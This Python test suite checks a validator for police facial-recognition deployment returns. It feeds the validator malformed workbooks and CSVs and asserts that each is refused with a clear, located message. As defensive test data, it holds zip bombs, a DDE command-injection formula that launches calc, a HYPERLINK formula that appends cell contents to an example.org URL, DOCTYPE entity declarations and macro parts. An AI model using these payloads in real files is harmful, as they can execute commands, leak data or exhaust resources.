"""A hundred malformed returns of twenty kinds: each is refused with the place and what to do,
and never with a traceback."""

from __future__ import annotations

import ast
import datetime as dt
import io
import sys
import warnings
import zipfile
from collections.abc import Callable
from functools import partial
from pathlib import Path
from types import FrameType
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.cell.rich_text import CellRichText, InlineFont, TextBlock
from openpyxl.comments import Comment
from openpyxl.styles import Font
from openpyxl.workbook.defined_name import DefinedName

from etl.model.return_template import CURRENT
from etl.returns import package_checks
from etl.returns.annotate import annotate_return
from etl.returns.problems import ReturnProblem
from tests.returns.sample_returns import (
    ROWS,
    changed,
    part_of,
    sound,
    take_in,
    to_bytes,
    with_cell,
    with_part,
)

# How the file is made (when its test runs), its name, and what the reader is told.
Case = tuple[Callable[[], bytes], str, str]
ORDERED = "deployments"


def cell(heading: str, value: Any, message: str, sheet: str = ORDERED, row: int = 2) -> Case:
    return partial(changed, with_cell(sheet, row, heading, value)), "return.xlsx", message


def book(change: Any, message: str) -> Case:
    return partial(changed, change), "return.xlsx", message


def raw(make: bytes | Callable[[], bytes], message: str, name: str = "return.xlsx") -> Case:
    return (lambda: make) if isinstance(make, bytes) else make, name, message


def _csv(*changes: tuple[str, str], headings: list[str] | None = None) -> bytes:
    names = headings or list(CURRENT.sheet(ORDERED).headings)
    row = {name: str(value) for name, value in ROWS[ORDERED][0].items()} | dict(changes)
    row |= {"start_time": "11:30", "end_time": "16:05"}
    return (
        ",".join(names) + "\n" + ",".join(f'"{row.get(name, "")}"' for name in names) + "\n"
    ).encode()


def _hide(kind: str) -> Any:
    def change(workbook: Workbook) -> None:
        sheet = workbook[ORDERED]
        if kind == "sheet":
            workbook["arrests"].sheet_state = "hidden"
        elif kind == "very":
            workbook["watchlists"].sheet_state = "veryHidden"
        elif kind == "row":
            sheet.row_dimensions[3].hidden = True
        elif kind == "column":
            sheet.column_dimensions["C"].hidden = True
        else:
            workbook.create_sheet("old").sheet_state = "hidden"

    return change


def _in_sheet(name: str, cells: dict[str, Any]) -> Any:
    def change(workbook: Workbook) -> None:
        sheet = workbook[name] if name in workbook.sheetnames else workbook.create_sheet(name)
        for place, value in cells.items():
            sheet[place] = value

    return change


def _comment(place: str, sheet: str = ORDERED) -> Any:
    def change(workbook: Workbook) -> None:
        workbook[sheet][place].comment = Comment("seen before", "officer")

    return change


def _merge(span: str, sheet: str = ORDERED) -> Any:
    return lambda workbook: workbook[sheet].merge_cells(span)


def _bomb(kind: str) -> bytes:
    if kind == "nested":
        inner = io.BytesIO()
        with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as package:
            package.writestr("zeros", b"0" * 1_000_000)
        return with_part("xl/embeddings/inner.zip", inner.getvalue())
    if kind == "parts":
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as package:
            for number in range(400):
                package.writestr(f"xl/worksheets/sheet{number}.xml", b"<x/>")
        return out.getvalue()
    if kind == "lying":  # the directory states a small size for a large part
        content = bytearray(with_part("xl/worksheets/sheet99.xml", b" " * 45_000_000))
        at = content.rfind(b"PK\x01\x02")
        content[at + 24 : at + 28] = (1000).to_bytes(4, "little")
        return bytes(content)
    size = {"wide": 60_000_000, "long": 41_000_000}[kind]
    return with_part("xl/sharedStrings.xml", b" " * size)


def _merged_far() -> bytes:
    name = "xl/worksheets/sheet2.xml"
    merged = b'<mergeCells count="1"><mergeCell ref="A5:XFD1048576"/></mergeCells></sheetData>'
    return with_part(
        name,
        part_of(name).replace(
            b"</sheetData>", merged.replace(b"</sheetData>", b"").join([b"</sheetData>", b""])
        ),
    )


def _doctype(name: str) -> bytes:
    body = part_of(name)
    return with_part(name, body.replace(b"<", b'<!DOCTYPE x [<!ENTITY e "eeee">]><', 1))


def _package(*parts: tuple[str, bytes]) -> bytes:
    out = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(out, "w") as package:
        warnings.simplefilter("ignore")  # two parts of one name are what a case is about
        for name, body in parts:
            package.writestr(name, body)
    return out.getvalue()


def _shown(**changes: Any) -> Any:
    """Sets attributes of the cell of the watchlist's size in the first row."""

    def change(workbook: Workbook) -> None:
        heading = list(CURRENT.sheet(ORDERED).headings).index("watchlist_size") + 1
        target = workbook[ORDERED].cell(2, heading)
        for name, value in changes.items():
            setattr(target, name, value)

    return change


def _low_row() -> bytes:
    name = "xl/worksheets/sheet3.xml"
    body = part_of(name)
    assert b'<row r="3"' in body
    return with_part(name, body.replace(b'<row r="3"', b'<row r="3" ht="0" customHeight="1"'))


def _copy_sheet(workbook: Workbook) -> None:
    workbook.copy_worksheet(workbook[ORDERED]).title = "deployments (2)"


def _title_above(workbook: Workbook) -> None:
    workbook[ORDERED].insert_rows(1)
    workbook[ORDERED]["A1"] = "Deployments of the quarter"


def _footer(workbook: Workbook) -> None:
    workbook[ORDERED].oddFooter.center.text = "seen by J Jones, page &P"


def _name_text(workbook: Workbook) -> None:
    workbook.defined_names["officer"] = DefinedName("officer", attr_text='"J Jones"')


def _strict() -> bytes:
    body = part_of("xl/workbook.xml")
    plain = b"http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    assert plain in body
    strict = body.replace(plain, b"http://purl.oclc.org/ooxml/spreadsheetml/main")
    return with_part("xl/workbook.xml", strict)


def _note_in(value: Any) -> CellRichText:
    return CellRichText(str(value), TextBlock(InlineFont(vertAlign="superscript"), "1"))


KINDS: dict[str, list[Case]] = {
    "not as seen": [
        book(_shown(font=Font(strike=True)), "text that is struck out"),
        book(_shown(font=Font(sz=1)), "text too small to be seen"),
        book(_shown(font=Font(color="FFFFFFFF")), "text in the colour of its background"),
        book(_shown(value=_note_in(4000)), "a raised or smaller number beside a figure"),
        *(
            book(_shown(number_format=text), "a number format that shows another text")
            for text in ('"[c]"', ";;;", "0,", '0"1"', '"n/a"')
        ),
        raw(_low_row, "a hidden or filtered row"),
        book(_copy_sheet, 'the same headings as the sheet "deployments"'),
        book(_title_above, "the headings in row 2"),
        book(_footer, "a text in the header or footer"),
        book(_name_text, "a name that stands for a text"),
        raw(_strict, "a workbook saved as Strict Open XML"),
        raw(partial(with_part, "docProps/thumbnail.jpeg", b"x"), "a preview picture of the file"),
        cell("end_time", dt.datetime(1900, 1, 1), "the end of a day (24:00)"),
        raw(lambda: b"sep=,\n" + _csv(), 'the line "sep="', "return.csv"),
        raw(lambda: b"Returns,,,\n" + _csv(), "a title; the headings are in line 2", "return.csv"),
    ],
    "packages": [
        raw(lambda: b"PK\x03\x04" + b"\0" * 5_000_000, "5,000,004 bytes"),
        raw(partial(_package, ("a.txt", b"x")), "a compressed file that is no workbook"),
        raw(partial(_package, *[("xl/workbook.xml", b"<x/>")] * 2), "two parts of the same name"),
        raw(
            partial(with_part, "xl/worksheets/sheet2.xml", "<x/>".encode("utf-16")),
            "another encoding",
        ),
    ],
    "not a workbook": [
        raw(b"", "an empty file"),
        raw(b"%PDF-1.7 x", "bytes that are no workbook"),
        raw(lambda: sound()[:5000], "a damaged workbook"),
        raw(b"\xd0\xcf\x11\xe0" + b"\0" * 600, "an old Excel file, or a workbook with a password"),
        raw(sound, "the ending of 'return.xlsm'", "return.xlsm"),
    ],
    "zip bombs": [
        raw(partial(_bomb, kind), message)
        for kind, message in (
            ("wide", "bytes when unpacked"),
            ("long", "bytes when unpacked"),
            ("nested", "an embedded file"),
            ("parts", "400 parts"),
            ("lying", ""),
        )
    ],
    "macros and controls": [
        raw(partial(with_part, name, b"x"), message)
        for name, message in (
            ("xl/vbaProject.bin", "a macro"),
            ("xl/activeX/activeX1.bin", "a macro or a control"),
            ("xl/macrosheets/sheet1.xml", "a macro"),
            ("xl/vbaProjectSignature.bin", "a macro"),
        )
    ]
    + [
        raw(
            lambda: with_part(
                "[Content_Types].xml",
                part_of("[Content_Types].xml").replace(
                    b"sheet.main+xml", b"sheet.macroEnabled.main+xml"
                ),
            ),
            "a workbook for macros",
        )
    ],
    "external links and data": [
        raw(partial(with_part, name, b"<x/>"), message)
        for name, message in (
            ("xl/externalLinks/externalLink1.xml", "a link to another workbook"),
            ("xl/connections.xml", "a data connection"),
            ("xl/queryTables/queryTable1.xml", "a data connection"),
            ("xl/pivotTables/pivotTable1.xml", "a pivot table"),
            ("xl/embeddings/oleObject1.bin", "a macro or a control"),
        )
    ],
    "pictures": [
        raw(partial(with_part, f"xl/media/image1.{kind}", b"x"), "a picture")
        for kind in ("png", "jpeg", "gif", "emf", "svg")
    ],
    "notes and drawings": [book(_comment(place), "a note") for place in ("A1", "B2", "G3")]
    + [
        book(_comment("A1", "arrests"), "a note"),
        raw(partial(with_part, "xl/charts/chart1.xml", b"<x/>"), "a drawing, a chart"),
    ],
    "formulas": [
        cell(heading, text, "a formula")
        for heading, text in (
            ("alerts_count", "=8+1"),
            ("location_text", '=HYPERLINK("http://a.b","x")'),
            ("arrests_count", "=SUM(A1:A9)"),
            ("date", "=TODAY()"),
            ("use_case_text", "=cmd|' /C calc'!A0"),
        )
    ],
    "hidden": [book(_hide(kind), "hidden") for kind in ("sheet", "very", "row", "column", "new")],
    "document types": [
        raw(partial(_doctype, name), "a document type")
        for name in (
            "xl/workbook.xml",
            "xl/worksheets/sheet2.xml",
            "xl/styles.xml",
            "[Content_Types].xml",
            "docProps/core.xml",
        )
    ],
    "cells far out": [
        book(_in_sheet(ORDERED, {place: "x"}), message)
        for place, message in (
            ("XFD1", "the cell XFD1"),
            ("A1048576", "the cell A1048576"),
            ("ZZ3", "the cell ZZ3"),
            ("AE9", "cells beside the table"),
            ("AF2", "cells beside the table"),
        )
    ],
    "merged cells": [book(_merge(span), "merged cells") for span in ("B2:B3", "A2:D2", "Y2:Z3")]
    + [book(_merge("A2:B2", "arrests"), "merged cells"), raw(_merged_far, "merged cells")],
    "headings": [
        book(_in_sheet(ORDERED, {"B1": "day"}), "an unknown column"),
        book(_in_sheet(ORDERED, {"B1": None}), "no such column"),
        book(
            _in_sheet(ORDERED, {"A1": "date", "B1": "deployment_number"}),
            "the columns in another order",
        ),
        book(_in_sheet(ORDERED, {"C1": "date"}), "no such column"),
        book(_in_sheet("arrests", {"A1": "offence"}), "an unknown column"),
    ],
    "sheets": [
        book(lambda workbook: workbook.remove(workbook[ORDERED]), "no such sheet"),
        book(lambda workbook: workbook.remove(workbook["return"]), "no such sheet"),
        book(_in_sheet("log", {"A1": "x"}), "a sheet that is not of the template"),
        book(_in_sheet("people", {"A1": "surname"}), "a column about people"),
        book(_in_sheet("return", {"A3": "1", "B3": "essex"}), "2 rows"),
    ],
    "force and period": [
        cell("force_id", "atlantis", "'atlantis'", "return"),
        cell("force_id", None, "a blank cell", "return"),
        cell("template_version", "99", "'99'", "return"),
        cell("period_end", dt.date(2025, 1, 1), "2025-01-01", "return"),
        cell("period_start", "January", "'January'", "return"),
    ],
    "dates and times": [
        cell("date", "17/01/2026", "'17/01/2026'"),
        cell("date", "2026-02-30", "'2026-02-30'"),
        cell("date", None, "a blank cell"),
        cell("end_date", dt.date(2026, 1, 2), "'2026-01-02'"),
        cell("date", dt.date(2027, 1, 2), "2027-01-02"),
    ],
    "numbers": [
        cell(heading, value, message)
        for heading, value, message in (
            ("alerts_count", -1, "'-1'"),
            ("alerts_count", "nine", "'nine'"),
            ("faces_seen_count", 3.5, "'3.5'"),
            ("threshold", 64, "'64'"),
            ("arrests_count", None, "a blank cell"),
        )
    ],
    "codes": [
        cell("subject_code", "hits", "'hits'", "alerts_by_group"),
        cell("group_code", "ic3", "'ic3'", "alerts_by_group"),
        cell("offence_code", "Theft", "'Theft'", "arrests"),
        cell("outcome_code", "released", "'released'", "misidentifications"),
        cell("lender_force_id", "atlantis", "'atlantis'"),
    ],
    "small groups and numbers of deployments": [
        cell("counted", 3, "'3'", "alerts_by_group"),
        cell("counted", "[c]", "'[c]'", "alerts_by_group"),
        cell("counted", 19, "'19'", "alerts_by_group"),
        cell("deployment_number", 1, "'1'", ORDERED, 3),
        cell("deployment_number", 7, "'7'", "watchlists"),
    ],
    "about people": [
        cell("location_text", text, message)
        for text, message in (
            ("Queen St, arrested on a warrant", "a remark about a person"),
            ("Mr Jones, High Street", "a person's name"),
            ("High St, 07700 900123", "a telephone number"),
            ("PC 1234, High St", "an officer's name or number"),
            ("12 High St LL57 1AB", "a full postcode"),
        )
    ],
    "CSV": [
        raw(lambda: _csv().replace(b"Bangor", b"Caf\xe9"), "the byte 0xE9", "return.csv"),
        raw(lambda: _csv().decode().encode("utf-16"), "UTF-16 text", "return.csv"),
        raw(lambda: _csv(("location_text", "=1+1")), "a formula", "return.csv"),
        raw(lambda: _csv().replace(b",", b";"), "separated by semi-colons", "return.csv"),
        raw(
            lambda: _csv(headings=["deployment_number", "surname", "date"]),
            "a column about people",
            "return.csv",
        ),
    ],
}
CASES = [
    pytest.param(*case, id=f"{kind}-{number}")
    for kind, cases in KINDS.items()
    for number, case in enumerate(cases)
]


def test_every_refusal_of_a_workbook_is_reached_by_a_case() -> None:
    """The lines of the package check that refuse are read from its source; each has to run for some
    case.

    One cannot run: zipfile reads no more of a part than its directory states, so the limit on what
    is really unpacked is a second barrier behind the limit on what is stated."""
    source = Path(package_checks.__file__)
    statements = list_refusals(source.read_text(encoding="utf-8"))
    refusals = {line for line, text in statements.items() if "bigger_unpacked" not in text}
    assert len(statements) - len(refusals) == 1
    assert len(refusals) > 10
    reached: set[int] = set()

    def note_line(frame: FrameType, event: str, _arg: object) -> Callable[..., Any] | None:
        if frame.f_code.co_filename != str(source):
            return None
        if event == "line":
            reached.add(frame.f_lineno)
        return note_line

    files = [(make(), name) for cases in KINDS.values() for make, name, _ in cases]
    before = sys.gettrace()
    sys.settrace(note_line)
    try:
        for content, name in files:
            if not name.endswith(".csv"):
                package_checks.check_package(name, content)
    finally:
        sys.settrace(before)
    assert refusals - reached == set()


def list_refusals(source: str) -> dict[int, str]:
    """Statements that yield a problem or return a list of them, by number of their first line."""
    statements = {}
    for node in ast.walk(ast.parse(source)):
        yields = isinstance(node, ast.Expr) and isinstance(node.value, ast.Yield)
        if yields or (isinstance(node, ast.Return) and isinstance(node.value, ast.List)):
            statements[node.lineno] = ast.unparse(node)
    return statements


@pytest.mark.parametrize(("make", "name", "message"), CASES)
def test_a_malformed_return_is_refused_with_its_place(
    make: Callable[[], bytes], name: str, message: str
) -> None:
    content = make()
    result = take_in(content, name, force_id="north_wales")
    assert not result.accepted
    assert any(message in problem.found for problem in result.errors), [
        str(error) for error in result.errors
    ]
    assert all(
        problem.expected and problem.remedy.endswith((".", "submit.")) for problem in result.errors
    )
    copy = annotate_return(name, content, result)
    listed = [row[4].value for row in copy["problems"].iter_rows(min_row=2)]
    assert len(listed) == len(result.problems)
    assert not any(row[4].data_type == "f" for row in copy["problems"].iter_rows(min_row=2))
    to_bytes(copy)


def test_a_sound_return_is_accepted() -> None:
    result = take_in(sound(), force_id="north_wales")
    assert result.problems == ()
    assert [row.deployment_id for row in result.records.deployments] == [
        "north_wales_return_new_0001",
        "north_wales_return_new_0002",
    ]


def test_all_problems_are_told_at_once_where_the_officer_finds_them() -> None:
    def change(workbook: Workbook) -> None:
        with_cell(ORDERED, 3, "alerts_count", "nine")(workbook)
        with_cell("arrests", 2, "counted", "five")(workbook)
        with_cell("return", 2, "force_id", "essex")(workbook)

    result = take_in(changed(change), force_id="north_wales")
    assert [(error.sheet, error.row, error.column) for error in result.errors] == [
        ("arrests", 2, "counted"),
        (ORDERED, 3, "alerts_count"),
        ("return", 2, "force_id"),
    ]
    copy = annotate_return("return.xlsx", changed(change), result)
    column = CURRENT.sheet(ORDERED).headings.index("alerts_count") + 1
    assert copy[ORDERED].cell(3, column).fill.fgColor.rgb == "00F4B6B6"
    assert copy[ORDERED].cell(2, column).fill.fill_type is None


def test_the_checks_of_publications_run_on_a_return_and_stop_nothing() -> None:
    result = take_in(changed(with_cell(ORDERED, 2, "arrests_count", 9)))
    assert result.accepted
    problems: list[ReturnProblem] = [
        problem for problem in result.problems if problem.severity == "warning"
    ]
    assert {(problem.sheet, problem.column) for problem in problems} >= {
        (ORDERED, "arrests_count"),
        ("arrests", "counted"),
    }
    assert any(
        "do not add up with the return's own deployments" in problem.remedy for problem in problems
    )


def test_a_file_far_too_large_is_refused_unopened() -> None:
    (problem,) = take_in(b"PK\x03\x04" + b"0" * 5_000_001).errors
    assert problem.found == "5,000,005 bytes"


def test_an_annotated_copy_can_be_mended_and_sent_again() -> None:
    wrong = changed(with_cell(ORDERED, 2, "alerts_count", "nine"))
    copy = annotate_return("return.xlsx", wrong, take_in(wrong))
    with_cell(ORDERED, 2, "alerts_count", 9)(copy)
    assert take_in(to_bytes(copy)).accepted


def test_no_cell_of_an_annotated_copy_runs_as_a_formula() -> None:
    text = '=HYPERLINK("https://example.org?"&A1,"Bangor")'

    def change(workbook: Workbook) -> None:
        for row in (2, 3):
            with_cell("deployments", row, "location_text", text)(workbook)
        column = CURRENT.sheet("deployments").headings.index("location_text") + 1
        workbook["deployments"].cell(3, column).data_type = "s"  # a text, not a formula

    content = changed(change)
    copy = to_bytes(annotate_return("return.xlsx", content, take_in(content)))
    values = [
        (str(cell.value), cell.data_type)
        for sheet in load_workbook(io.BytesIO(copy)).worksheets
        for row in sheet.iter_rows()
        for cell in row
    ]
    assert [value for value, _kind in values].count(f"'{text}") >= 2
    assert not [value for value, kind in values if kind == "f" or value.startswith("=")]


def test_what_follows_from_a_problem_that_is_told_is_not_told_as_another() -> None:
    formula = take_in(changed(with_cell("deployments", 2, "alerts_count", "=SUM(P2:S2)"))).errors
    assert [error.column for error in formula] == ["alerts_count"]
    number = take_in(changed(with_cell("deployments", 2, "deployment_number", "1.0"))).errors
    assert [(error.sheet, error.column) for error in number] == [
        ("deployments", "deployment_number")
    ]
    twice = take_in(changed(with_cell("deployments", 1, "cameras_count", "alerts_count"))).errors
    assert {(error.column, error.found) for error in twice} == {
        ("cameras_count", "no such column"),
        ("alerts_count", "a column twice"),
    }


def test_an_unfinished_period_and_a_file_without_days_are_refused() -> None:
    future = take_in(changed(with_cell("return", 2, "period_end", dt.date(2027, 3, 31)))).errors
    assert [(error.sheet, error.column, error.found) for error in future] == [
        ("return", "period_end", "2027-03-31")
    ]
    heads = ",".join(CURRENT.sheet("deployments").headings)
    (empty,) = take_in(f"{heads}\n".encode(), "deployments.csv", force_id="essex").errors
    assert empty.remedy == "Name them with --start and --end."


def test_a_deployment_beside_the_days_of_the_return_is_refused() -> None:
    """What else covers the days of a return is found by its period:
    beside it, a day could be counted twice."""
    for heading, day in (("date", dt.date(2025, 12, 31)), ("end_date", dt.date(2026, 4, 1))):
        (error,) = take_in(changed(with_cell(ORDERED, 2, heading, day))).errors
        assert (error.row, error.column, error.found) == (2, heading, str(day))
        assert error.expected == "a day from 2026-01-01 to 2026-03-31, which the file covers"


def test_that_there_was_no_child_is_not_told_either() -> None:
    def change(group: str, number: int) -> Callable[[Workbook], None]:
        def write(workbook: Workbook) -> None:
            for row, values in ((2, (group, number)), (3, ("aged_25_to_34", 18 - number))):
                with_cell("alerts_by_group", row, "classification_code", "age_band_6")(workbook)
                with_cell("alerts_by_group", row, "group_code", values[0])(workbook)
                with_cell("alerts_by_group", row, "counted", values[1])(workbook)

        return write

    (error,) = take_in(changed(change("aged_0_to_15", 0))).errors
    assert (error.column, error.expected) == ("counted", "10 or more, or [c]")
    assert take_in(changed(change("aged_35_to_49", 0))).accepted


def test_a_problem_of_two_columns_names_both_by_their_headings() -> None:
    def change(workbook: Workbook) -> None:
        for row in range(2, 26):
            for heading, value in ROWS[ORDERED][0].items():
                with_cell(ORDERED, row, heading, value)(workbook)
            with_cell(ORDERED, row, "deployment_number", row)(workbook)
            with_cell(ORDERED, row, "date", dt.date(2026, 1, row))(workbook)
            for heading in ("true_alerts_confirmed_count", "engagements_after_true_alerts_count"):
                with_cell(ORDERED, row, heading, row)(workbook)

    columns = [
        problem.column
        for problem in take_in(changed(change)).problems
        if problem.found.endswith("rows the same")
    ]
    assert "true_alerts_confirmed_count and engagements_after_true_alerts_count" in columns


@pytest.mark.parametrize(
    ("true_alerts", "rest"),
    [((5, 11), "1 and 1"), ((6, 8), "0 and 4"), ((6, 7), ""), ((1, 12), "")],
)
def test_alerts_less_the_true_ones_may_not_tell_a_few_false_ones(
    true_alerts: tuple[int, int], rest: str
) -> None:
    def change(workbook: Workbook) -> None:
        for row, (group, number) in enumerate(
            zip(("female", "male"), true_alerts, strict=True), start=4
        ):
            values = ("true_alerts", "officer_perceived_sex", group, number)
            for heading, value in zip(
                CURRENT.sheet("alerts_by_group").headings, values, strict=False
            ):
                with_cell("alerts_by_group", row, heading, value)(workbook)

    left = "a count that leaves 0, 5 or more of the alerts about the group, or [c]"
    rows = [error.row for error in take_in(changed(change)).errors if error.expected == left]
    few = [
        row
        for row, whole, number in zip((4, 5), (6, 12), true_alerts, strict=True)
        if 0 < whole - number < 5
    ]
    assert rows == few
    assert bool(rows) == bool(rest)


EMPTY_DRAWING = (
    b'<?xml version="1.0"?><xdr:wsDr xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/'
    b'spreadsheetDrawing"/>'
)


@pytest.mark.parametrize("number_format", ["General", "0", "#,##0", '0" faces"', "[Red]0;-0", "@"])
def test_a_format_that_shows_the_number_is_no_fault(number_format: str) -> None:
    assert take_in(changed(_shown(number_format=number_format))).accepted


def test_a_drawing_without_marks_is_no_fault() -> None:
    assert take_in(with_part("xl/drawings/drawing1.xml", EMPTY_DRAWING)).accepted
    drawn = EMPTY_DRAWING.replace(b"/>", b"><xdr:oneCellAnchor/></xdr:wsDr>")
    assert not take_in(with_part("xl/drawings/drawing1.xml", drawn)).accepted


def _without_drawing() -> bytes:
    """As R's openxlsx writes: every sheet names a drawing, and there is no such part."""
    links = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/drawing" Target="../drawings/drawing1.xml"/></Relationships>'
    )
    return with_part("xl/worksheets/_rels/sheet2.xml.rels", links.encode())


def test_a_link_to_a_part_that_is_not_there_is_passed_over() -> None:
    with pytest.raises(KeyError):
        load_workbook(io.BytesIO(_without_drawing()))
    assert take_in(_without_drawing()).accepted


def test_a_type_of_macros_counts_only_where_a_part_has_it() -> None:
    types = "[Content_Types].xml"
    macro = b'"application/vnd.ms-excel.sheet.binary.macroEnabled.main"'
    unused = b'<Default Extension="bin" ContentType=' + macro + b"/></Types>"
    used = b'<Default Extension="xml" ContentType=' + macro + b"/></Types>"
    named = b'<Override PartName="/xl/workbook.xml" ContentType=' + macro + b"/></Types>"
    body = part_of(types)
    assert take_in(with_part(types, body.replace(b"</Types>", unused))).accepted
    for wrong in (used, named):
        (problem,) = take_in(with_part(types, body.replace(b"</Types>", wrong))).errors
        assert problem.found == "a workbook for macros"


@pytest.mark.parametrize("sign", ["\u00ad", "\u200b", "\u2060", "\ufe0f", "\u3164"])
def test_a_sign_that_no_font_draws_is_refused(sign: str) -> None:
    text = f"Llanfair{sign}pwll"
    for content in (changed(with_cell(ORDERED, 2, "location_text", text)),):
        (problem,) = take_in(content).errors
        assert (problem.found, problem.row) == ("a sign that cannot be seen", 2)


def test_a_letter_and_its_accent_are_one_sign() -> None:
    result = take_in(changed(with_cell(ORDERED, 2, "location_text", "Ty\u0302 Du")))
    assert result.records is not None
    assert result.records.deployments[0].location_text == "T\u0177 Du"


def test_the_sign_of_a_line_end_is_a_space() -> None:
    place = "location_text"
    result = take_in(changed(with_cell(ORDERED, 2, place, "High Street_x000D_, Bangor")))
    assert result.accepted
    assert "_x000D_" not in result.to_cells()


def test_merged_cells_are_told_of_their_own_sheet() -> None:
    def change(workbook: Workbook) -> None:
        workbook[ORDERED].merge_cells("A5:B5")
        workbook.move_sheet(ORDERED, -2)

    (problem,) = take_in(changed(change)).errors
    assert (problem.sheet, problem.found) == (ORDERED, "merged cells")
